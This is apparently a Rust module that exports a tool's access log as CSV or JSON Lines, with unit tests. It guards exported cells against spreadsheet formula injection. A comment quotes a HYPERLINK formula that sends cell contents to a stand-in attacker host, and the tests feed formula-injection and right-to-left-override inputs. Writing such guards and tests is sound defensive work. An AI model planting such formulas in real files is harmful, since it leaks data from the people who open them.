//! Export of the access log to a file, for storage or other programs.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::fmt::Write as _;

use docent_access_log::StoredLine;
use docent_access_log::entry::{EndedCall, LogEntry};
use http::StatusCode;
use http::header::{CONTENT_DISPOSITION, HeaderValue};

use crate::serve::http::reply::{self, Reply};
use crate::terminal::style::visible;

/// A file format of exported entries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Format {
    /// A table, for people.
    Csv,
    /// JSON Lines: each entry unchanged.
    JsonLines,
}

impl Format {
    /// Returns the format with this name.
    pub fn from_name(name: &str) -> Option<Self> {
        match name {
            "csv" => Some(Self::Csv),
            "jsonl" => Some(Self::JsonLines),
            _ => None,
        }
    }
}

const COLUMNS: [&str; 13] = [
    "entry",
    "time",
    "who",
    "client",
    "tool",
    "arguments",
    "outcome",
    "ms",
    "bytes",
    "calls before",
    "read",
    "written or removed",
    "refused",
];

/// Formats these entries as a file, oldest first.
pub fn file(format: Format, lines: &[StoredLine]) -> Reply {
    let (text, kind, disposition) = match format {
        Format::Csv => (
            csv(lines),
            "text/csv; charset=utf-8",
            "attachment; filename=\"docent-log.csv\"",
        ),
        Format::JsonLines => (
            json_lines(lines),
            "application/x-ndjson",
            "attachment; filename=\"docent-log.jsonl\"",
        ),
    };
    let mut reply = reply::bytes(StatusCode::OK, kind, text);
    let disposition = HeaderValue::from_static(disposition);
    reply.headers_mut().insert(CONTENT_DISPOSITION, disposition);
    reply
}

fn json_lines(lines: &[StoredLine]) -> String {
    let mut text = String::new();
    for line in lines {
        text.push_str(line.text.trim_end());
        text.push('\n');
    }
    text
}

fn csv(lines: &[StoredLine]) -> String {
    // Spreadsheets recognise UTF-8 by the byte order mark. Without it some read `회의.md` in the
    // system's own encoding.
    let mut text = "\u{feff}".to_owned();
    row(&mut text, COLUMNS.map(Cow::Borrowed));
    for line in lines {
        if let Some(LogEntry::Call(call)) = &line.entry {
            row(&mut text, cells(line, call));
        }
    }
    text
}

fn cells<'a>(line: &'a StoredLine, call: &'a EndedCall) -> [Cow<'a, str>; COLUMNS.len()] {
    let files = &call.files;
    let refused = files.refused.iter().flat_map(|(root, paths)| {
        let told = move |(path, why): &(String, String)| format!("{root}/{path}: {why}");
        paths.iter().map(told)
    });
    let mut changed = names(&files.written);
    changed.extend(names(&files.removed));
    let bytes = call.answer.as_ref().map(|answer| answer.bytes.to_string());
    [
        line.seq.to_string().into(),
        line.time.as_deref().unwrap_or_default().into(),
        call.who.as_str().into(),
        call.client.as_deref().unwrap_or_default().into(),
        call.tool.as_str().into(),
        call.arguments.to_string().into(),
        call.outcome.as_str().into(),
        call.ms.to_string().into(),
        bytes.unwrap_or_default().into(),
        call.calls_before.to_string().into(),
        several(names(&files.read)),
        several(changed),
        several(refused.collect()),
    ]
}

fn names(files: &BTreeMap<String, Vec<String>>) -> Vec<String> {
    let named = |(root, paths): (&String, &Vec<String>)| {
        let path = |path: &String| format!("{root}/{path}");
        paths.iter().map(path).collect::<Vec<_>>()
    };
    files.iter().flat_map(named).collect()
}

/// Joins several names in one cell, one a line; a line break within a name is escaped.
fn several(names: Vec<String>) -> Cow<'static, str> {
    let shown: Vec<_> = names
        .iter()
        .map(|name| visible(name).into_owned())
        .collect();
    shown.join("\n").into()
}

fn row<const N: usize>(text: &mut String, cells: [Cow<'_, str>; N]) {
    for (n, cell) in cells.iter().enumerate() {
        if n > 0 {
            text.push(',');
        }
        let shown: Vec<_> = cell.split('\n').map(visible).collect();
        let shown = shown.join("\n");
        // A spreadsheet evaluates a cell that begins with one of these characters as a formula,
        // also if the cell is quoted. Names of files and clients are chosen by others: a file
        // called `=HYPERLINK("http://evil.example?"&A1)` must be shown and not run. The
        // apostrophe makes the cell a text.
        let guard = if shown.starts_with(['=', '+', '-', '@', '\t']) {
            "'"
        } else {
            ""
        };
        let _ = write!(text, "\"{guard}{}\"", shown.replace('"', "\"\""));
    }
    text.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use docent_access_log::entry::CallFiles;
    use serde_json::json;

    use super::*;

    fn line(who: &str, paths: &[&str]) -> StoredLine {
        let paths = paths.iter().map(|path| (*path).to_owned()).collect();
        let call = EndedCall {
            begun: None,
            principal: None,
            who: who.to_owned(),
            client: Some("a, \"b\"".to_owned()),
            tool: "explore".to_owned(),
            arguments: json!({"query": "x"}),
            outcome: "answered".to_owned(),
            ms: 3,
            answer: None,
            instance: None,
            calls_before: 0,
            files: CallFiles {
                read: BTreeMap::from([("docs".to_owned(), paths)]),
                ..CallFiles::default()
            },
        };
        StoredLine {
            seq: 7,
            time: Some("2026-03-01T10:00:00.000Z".to_owned()),
            entry: Some(LogEntry::Call(Box::new(call))),
            text: "{\"seq\":7}\n".to_owned(),
        }
    }

    #[test]
    fn a_table_has_a_row_for_each_entry() {
        let text = csv(&[line("ann", &["a.md", "b\u{202e}dm.c"])]);
        let (head, rest) = text.split_once("\r\n").unwrap();
        assert!(head.starts_with("\u{feff}\"entry\",\"time\""));
        assert_eq!(
            rest,
            "\"7\",\"2026-03-01T10:00:00.000Z\",\"ann\",\"a, \"\"b\"\"\",\"explore\",\
             \"{\"\"query\"\":\"\"x\"\"}\",\"answered\",\"3\",\"\",\"0\",\
             \"docs/a.md\ndocs/b\\u{202e}dm.c\",\"\",\"\"\r\n"
        );
    }

    #[test]
    fn nothing_in_a_table_is_computed() {
        for name in ["=1+1", "+1", "-1", "@sum", "\t=1"] {
            let text = csv(&[line(name, &[])]);
            assert!(text.contains(&format!(",\"'{name}\",")), "{text}");
        }
    }

    #[test]
    fn lines_are_those_of_the_log() {
        let line = line("ann", &[]);
        assert_eq!(json_lines(&[line]), "{\"seq\":7}\n");
    }
}
